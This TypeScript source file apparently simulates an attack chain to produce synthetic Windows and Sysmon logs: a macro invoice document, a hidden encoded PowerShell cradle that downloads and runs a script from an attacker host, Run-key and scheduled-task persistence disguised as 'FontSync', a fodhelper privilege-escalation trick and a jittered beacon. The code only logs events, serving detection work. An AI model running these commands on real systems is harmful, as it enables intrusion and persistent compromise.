import { between, type Micros, millisecond, minute, second } from '../day.ts';
import { images } from '../windows/images.ts';
import { encodedCommand, logScript } from '../windows/powershell.ts';
import type { Process } from '../windows/processes.ts';
import { logFileCreate, logImageLoad, logRegistrySet } from '../windows/sysmon.ts';
import type { World } from '../world.ts';
import type { Cast } from './cast.ts';
import { startAttackProcess, talkToAttacker } from './marked.ts';

export interface Foothold {
  /** PowerShell as the user, which keeps talking to the outside. */
  readonly shell: Process;
  /** PowerShell with full rights. */
  readonly elevated: Process;
}

const beaconEvery = minute;
const beaconJitter = 0.2;

/** The attachment is opened; its macro starts PowerShell, which fetches the rest and stays. */
export function openAttachment(world: World, cast: Cast): Foothold {
  const at = cast.opensAt;
  const user = cast.victim.person.account;
  const document = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${world.random.text('ABCDEFGH0123', 8)}\\Invoice-${world.random.integer(10_000, 99_999)}.docm`;
  logFileCreate(world, cast.victim.mail, at - 2 * second, document);
  const word = startAttackProcess(world, {
    at,
    parent: cast.victim.mail,
    image: images.word,
    command: `"${images.word}" /n "${document}" /o ""`,
    lasts: 11 * minute,
  });
  logImageLoad(
    world,
    word,
    at + 700 * millisecond,
    'C:\\Program Files\\Microsoft Office\\root\\vfs\\ProgramFilesCommonX86\\VBE7.DLL',
  );
  const shell = startShell(world, word, at + 6 * second);
  const { random } = world;
  persist(world, shell, between(random, at + 3 * minute, at + 5 * minute));
  const elevatedAt = between(random, at + 8 * minute, at + 11 * minute);
  return { shell, elevated: elevate(world, shell, elevatedAt) };
}

function startShell(world: World, word: Process, at: Micros): Process {
  const { command } = world.outside.attacker;
  const script = `$c=New-Object Net.WebClient;IEX $c.DownloadString('https://${command.name}/s/update.txt')`;
  const shell = startAttackProcess(world, {
    at,
    parent: word,
    image: images.powershell,
    command: encodedCommand(script, '-NoP -NonI -W Hidden'),
  });
  logScript(world, shell, at + 400 * millisecond, script, 'Invoke-Expression');
  talkToAttacker(world, {
    at: at + second,
    process: shell,
    site: command,
    sent: 410,
    received: 284_000,
    lasts: 900 * millisecond,
  });
  return shell;
}

function persist(world: World, shell: Process, at: Micros): void {
  const { account } = shell.session;
  const library = `C:\\Users\\${account.name}\\AppData\\Roaming\\FontCache\\fontsync.dll`;
  logFileCreate(world, shell, at, library);
  logRegistrySet(world, shell, at + second, {
    path: `HKU\\${account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\FontSync`,
    details: `rundll32.exe ${library},Start`,
  });
  startAttackProcess(world, {
    at: at + world.random.integer(14_000, 26_000) * millisecond,
    parent: shell,
    image: images.schtasks,
    command: `schtasks.exe /create /sc minute /mo 30 /tn FontSync /tr "rundll32.exe ${library},Start" /f`,
    lasts: second,
  });
}

/** The auto-elevating fodhelper runs what the user's registry names. */
function elevate(world: World, shell: Process, at: Micros): Process {
  const { account } = shell.session;
  const script = `Set-Location C:\\Users\\Public; Start-Job { while(1){ Start-Sleep 60 } }`;
  logRegistrySet(world, shell, at - 2 * second, {
    path: `HKU\\${account.sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)`,
    details: 'powershell.exe',
  });
  const helper = startAttackProcess(world, {
    at,
    parent: shell,
    image: images.fodhelper,
    integrity: 'High',
    lasts: 4 * second,
  });
  const elevated = startAttackProcess(world, {
    at: at + second,
    parent: helper,
    image: images.powershell,
    command: encodedCommand(script, '-NoP -NonI -W Hidden'),
  });
  logScript(world, elevated, at + 1_400 * millisecond, script, 'Start-Job');
  return elevated;
}

/** Short calls to the outside about once a minute, for as long as the intruder is at work. */
export function beacon(world: World, process: Process, from: Micros, to: Micros): void {
  const { random, outside } = world;
  let at = from;
  for (let beat = 0; at < to; beat += 1) {
    talkToAttacker(world, {
      at,
      process,
      site: outside.attacker.command,
      sent: random.integer(220, 900),
      received: random.integer(120, 2_400),
      lasts: random.integer(60, 400) * millisecond,
      cached: beat % 9 !== 0,
    });
    at = between(random, at + beaconEvery * (1 - beaconJitter), at + beaconEvery * (1 + beaconJitter));
  }
}
